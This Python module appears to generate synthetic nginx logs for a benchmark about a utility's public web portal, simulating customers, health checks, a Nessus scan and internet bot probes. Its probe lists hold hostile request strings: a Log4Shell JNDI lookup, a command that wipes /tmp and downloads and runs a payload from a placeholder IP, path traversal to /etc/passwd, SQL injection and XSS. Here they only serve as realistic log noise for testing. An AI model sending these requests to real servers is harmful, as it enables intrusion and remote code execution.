"""The public portal behind its proxy: visitors, bots of the internet, health checks, the scanner."""

from __future__ import annotations

from collections.abc import Iterator
from random import Random
from typing import Final

from bench.estate.hours import HONG_KONG, Hour, moments
from bench.estate.lines import Line, when
from bench.estate.people import MONITOR, SCANNER, Estate

_PAGES: Final = (
    "/",
    "/bills",
    "/bills/2026-09",
    "/meters/reading",
    "/outages",
    "/contact",
    "/login",
    "/api/v2/outages?district=HK",
    "/static/app.js",
    "/static/site.css",
    "/search?q=electric+vehicle",
    "/tariff?lang=zh-HK",
    "/api/v2/bills?year=2026",
)
_AGENTS: Final = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
)
_PROBES: Final = (
    ("/.env", "python-requests/2.32.3", 10),
    ("/wp-login.php", _AGENTS[0], 15),
    ("/.git/config", "Go-http-client/1.1", 8),
    ("/xmlrpc.php", _AGENTS[0], 6),
    ("/phpmyadmin/index.php", "Mozilla/5.0 zgrab/0.x", 5),
    ("/admin", _AGENTS[0], 6),
    ("/cgi-bin/luci/;stok=/locale", "Mozilla/5.0", 3),
    ("/actuator/health", "Mozilla/5.0 zgrab/0.x", 4),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "libredtail-http", 5),
    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "libredtail-http", 2),
    ("/index.php?lang=../../../../etc/passwd", "curl/8.5.0", 0.6),
    ("/?x=${jndi:ldap://198.51.100.9:1389/a}", "${jndi:ldap://198.51.100.9:1389/b}", 0.5),
    ("/?id=1%27%20OR%201=1--", "sqlmap/1.8", 0.5),
    ("/boaform/admin/formLogin", "Mozilla/5.0", 3),
    ("/owa/auth/logon.aspx", "Mozilla/5.0", 3),
    ("/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.7/jaws;sh+/tmp/jaws", "Hello, world", 0.6),
)
"""What bots ask of every server on the internet, by weight."""
_SCANNED: Final = (
    "/admin/",
    "/backup.zip",
    "/test.php",
    "/.svn/entries",
    "/server-status",
    "/?file=../../../../../../etc/passwd",
    "/?q=${jndi:ldap://10.20.9.40:389/nessus}",
    "/<script>alert(1)</script>",
    "/cgi-bin/test-cgi",
    "/web.config",
    "/phpinfo.php",
    "/console",
    "/solr/admin/cores",
    "/manager/html",
    "/?id=1+UNION+SELECT+NULL--",
)


def _asked(hour: Hour, second: float, host: str, who: str, request: tuple[str, str, int, str]) -> Line:
    """Return a line of nginx; `request` is method, target, status and browser."""
    method, target, status, agent = request
    moment = when(hour, second).astimezone(HONG_KONG)
    asked = f'"{method} {target} HTTP/1.1" {status} {len(target) * 41}'
    told = f'{who} - - [{moment:%d/%b/%Y:%H:%M:%S} +0800] {asked} "-" "{agent}"'
    return Line(second, f"web:{host}", told.encode())


def _visitor(rng: Random) -> str:
    """Return the address of somebody on the internet."""
    return f"{rng.choice(('203.0.113', '198.51.100', '192.0.2'))}.{rng.randrange(1, 255)}"


def visitors(estate: Estate, hour: Hour, rng: Random) -> Iterator[Line]:
    """Customers ask for 40 pages an hour of each web server by day, more in the typhoon and on its morning after.

    One in eighty is not found, one in three hundred fails.
    """
    for host in estate.of("web"):
        rate = 40 if 7 <= hour.local.hour < 23 else 8
        for second in moments(rng, rate * (4 if hour.storm else 1)):
            status = rng.choices((200, 304, 302, 404, 401, 500), (80, 8, 6, 1.2, 1, 0.3))[0]
            target = rng.choice(_PAGES)
            method = "POST" if target in {"/login", "/meters/reading"} else "GET"
            yield _asked(hour, second, host.full, _visitor(rng), (method, target, status, rng.choice(_AGENTS)))


def bots(estate: Estate, hour: Hour, rng: Random) -> Iterator[Line]:
    """Bots of the internet probe each web server 6 times an hour, day and night, for what it does not have."""
    targets, agents, weights = zip(*_PROBES, strict=True)
    for host in estate.of("web"):
        for second in moments(rng, 6):
            target = rng.choices(range(len(targets)), weights)[0]
            yield _asked(
                hour,
                second,
                host.full,
                _visitor(rng),
                ("GET", targets[target], rng.choice((404, 404, 403, 400)), agents[target]),
            )


def health(estate: Estate, hour: Hour, rng: Random) -> Iterator[Line]:
    """The monitoring server asks every web server for its health six times an hour."""
    for host in estate.of("web"):
        for n in range(6):
            yield _asked(
                hour, 600 * n + rng.uniform(0, 5), host.full, MONITOR, ("GET", "/healthz", 200, "check_http/v2.4")
            )


def scanning(estate: Estate, hour: Hour, rng: Random) -> Iterator[Line]:
    """The vulnerability scanner visits web servers on Tuesday nights: 300 requests each for what is hardly there."""
    if not hour.at(1, 2):
        return
    for host in estate.of("web"):
        begin = rng.uniform(0, 2400)
        for n in range(300):
            status = 404 if rng.random() < 0.95 else 200
            yield _asked(
                hour,
                begin + 3 * n,
                host.full,
                SCANNER,
                ("GET", rng.choice(_SCANNED), status, "Mozilla/5.0 (compatible; Nessus)"),
            )


KINDS: Final = (visitors, bots, health, scanning)
